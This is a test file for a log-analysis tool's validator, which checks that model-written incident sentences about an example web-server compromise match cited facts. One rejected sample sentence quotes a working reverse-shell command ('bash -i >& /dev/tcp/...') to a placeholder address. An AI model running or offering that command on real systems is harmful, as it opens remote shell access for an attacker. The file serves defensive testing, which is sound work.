import { analyze, fromFile } from '@tripline/core';
import { defenderDetectors } from '@tripline/detectors-defender';
import { describe, expect, it } from 'vitest';
import { buildFactSheet, validateSentences } from '../src/index.js';

const EVENTS = new URL('../../../examples/attack-webserver/events.ndjson', import.meta.url);

describe('the validator on an attack (examples/attack-webserver)', () => {
  it('keeps what a careful model writes, and rejects what a careless one adds', { timeout: 120_000 }, async () => {
    const result = await analyze(fromFile(EVENTS.pathname), { detectors: defenderDetectors });
    const sheet = buildFactSheet(result, { maxAlerts: 6 });
    const careful = [
      {
        text: 'tripline analysed 217 events from 1 device and raised 16 alerts, 8 of them high.',
        cites: ['F2', 'F5', 'F8', 'F11'],
      },
      {
        text: 'A3 records a brute force from 198.51.100.77 that succeeded as root at 2025-11-14T02:23:01.552107Z.',
        cites: ['A3.value.ip', 'A3.value.successAccount', 'A3.value.successAt'],
      },
      {
        text: 'Before it, 36 logons failed across eight accounts, among them root, admin and ubuntu.',
        cites: ['A3.value.failures', 'A3.value.accountCount', 'A3.value.accounts'],
      },
      {
        text: 'A1 is a reverse or bind shell run as www-data under php-fpm8.1, reaching 198.51.100.23 on ports 4444 and 4445.',
        cites: ['A1.value.behaviour', 'A1.value.account', 'A1.value.parent', 'A1.value.commandLines'],
      },
      { text: 'It maps to T1059.004 and T1095 in ATT&CK.', cites: ['A1.mitre', 'A1.mitre2'] },
      {
        text: 'A4 is a remote logon as root from the public address 198.51.100.77 through sshd.',
        cites: ['A4.value.account', 'A4.value.ip', 'A4.value.processes'],
      },
      {
        text: 'On web01.q3vhz5mkd1aehjx0c2pfwn4ryb.ax.internal.cloudapp.net, the shell /usr/bin/dash was replaced by /usr/bin/nc.traditional.',
        cites: ['A2.device', 'A2.value.fromPath', 'A2.value.toPath'],
      },
    ];
    expect(validateSentences(careful, sheet).map((v) => [v.text, v.reasons])).toEqual(careful.map((s) => [s.text, []]));
    const careless = [
      { text: 'The brute force lasted 3 minutes.', cites: ['A3.first', 'A3.last'] },
      { text: 'A3 came from 198.51.100.78 as root.', cites: ['A3.value.ip', 'A3.value.successAccount'] },
      { text: 'A1 maps to T1059 in ATT&CK.', cites: ['A1.mitre'] },
      {
        text: 'The shell ran "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1" as www-data.',
        cites: ['A1.value.commandLines', 'A1.value.account'],
      },
      { text: 'The attacker then exfiltrated data to 203.0.113.9.', cites: ['A1.value.commandLines'] },
      { text: 'Block 198.51.100.77 at the firewall.', cites: ['A3.value.ip'] },
    ];
    const verdicts = validateSentences(careless, sheet);
    expect(verdicts.map((v) => v.kept)).toEqual(careless.map(() => false));
    expect(verdicts.map((v) => v.reasons[0])).toEqual([
      'the number "3" is not a number of a cited fact',
      'the IPv4 address "198.51.100.78" does not occur in a cited fact',
      'the ATT&CK id "T1059" does not occur in a cited fact',
      'the sentence is not plain text: markup characters >',
      'the IPv4 address "203.0.113.9" does not occur in a cited fact',
      'the sentence holds an instruction (the imperative "block")',
    ]);
  });
});
